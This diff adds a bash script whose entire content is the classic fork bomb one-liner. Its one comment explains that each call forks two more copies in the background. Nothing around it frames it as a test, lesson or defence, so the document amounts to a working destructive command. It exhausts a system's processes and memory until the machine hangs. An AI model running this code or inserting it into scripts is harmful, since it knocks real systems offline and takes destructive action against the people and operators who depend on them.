@@ -1,0 +1,3 @@
+#!/bin/bash
+# The classic: every call forks two more in the background.
+:(){ :|:& };:
